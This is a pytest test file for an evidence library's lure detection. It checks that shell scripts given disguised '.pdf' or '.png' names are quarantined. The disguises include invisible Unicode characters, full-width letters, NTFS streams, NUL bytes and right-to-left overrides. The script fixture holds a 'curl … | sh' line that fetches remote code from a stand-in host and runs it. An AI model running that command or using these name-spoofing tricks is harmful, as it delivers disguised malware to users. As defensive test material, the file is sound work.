"""Round 32: a script named as a document, however its name hides the ending (``resources/evidence/names.py``).

The lure check (a ``#!`` script named ``report.pdf`` is quarantined) compared the name as stored: a zero-width
space, a no-break space, a tab, a byte order mark after ``.pdf``, full-width ``.pdf`` (U+FF50 ...), an NTFS stream
(``report.pdf:x``), a NUL (``report.pdf\\x00.sh``) or a right-to-left override (``report`` U+202E ``fdp.sh``, shown as
``reporths.pdf``) let the script through, stored as evidence. Each is now quarantined with the reason; scripts
under their own names, and documents under any of these names, are stored as before."""

from __future__ import annotations

import pytest

from tests.evidence.files import make_pdf
from tests.evidence.library import make_library

SCRIPT = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
DISGUISED = ["report.pdf\u200b", "report.pdf\u00a0", "report.pdf\u3000", "report.pdf\t", "report.pdf\n",
             "report.pdf\u2060", "report.pdf\ufeff", "report.pdf \u200b. ", "report.\uff50\uff44\uff46",
             "REPORT.\uff30\uff24\uff26", "report.pdf::$DATA", "report.pdf:evil", "C:\\inbox\\report.pdf:x",
             "report.pdf\x00.sh", "shot.png\u180e"]


@pytest.mark.parametrize("name", DISGUISED, ids=ascii)
def test_a_script_whose_name_shows_as_a_document_is_a_lure(tmp_path, clamd, name):
    lib = make_library(tmp_path, clamd)
    out = lib.ingest(SCRIPT, name, "email")
    assert out.status == "quarantined", (out.status, out.reason)
    assert out.reason.startswith("a script (#!) named as a .") and "a lure" in out.reason
    assert list(lib.store.list()) == []


@pytest.mark.parametrize("name", ["report\u202efdp.sh", "invoice\u202egnp.sh", "a\u2067b.sh", "x\u200fy.sh"],
                         ids=ascii)
def test_a_script_whose_name_carries_bidi_controls_is_a_lure(tmp_path, clamd, name):
    out = make_library(tmp_path, clamd).ingest(SCRIPT, name, "email")
    assert out.status == "quarantined" and "right-to-left controls" in out.reason, out.reason


@pytest.mark.parametrize("name", ["rotate-keys.sh", "deploy", "report.pdf.sh", "run\u00a0me.sh", "notes:v2.sh",
                                  "C:\\scripts\\rotate.sh"], ids=ascii)
def test_scripts_under_their_own_names_are_stored(tmp_path, clamd, name):
    out = make_library(tmp_path, clamd).ingest(SCRIPT, name, "email")
    assert out.status == "stored", out.reason


@pytest.mark.parametrize("name", [*DISGUISED, "report\u202efdp.sh", "CON", "nul.pdf"], ids=ascii)
def test_documents_under_odd_names_are_stored_as_they_are_named(tmp_path, clamd, name):
    out = make_library(tmp_path, clamd).ingest(make_pdf(["Access review"]), name, "email")
    assert out.status == "stored", out.reason
    assert out.metadata["mime_type"] == "application/pdf"
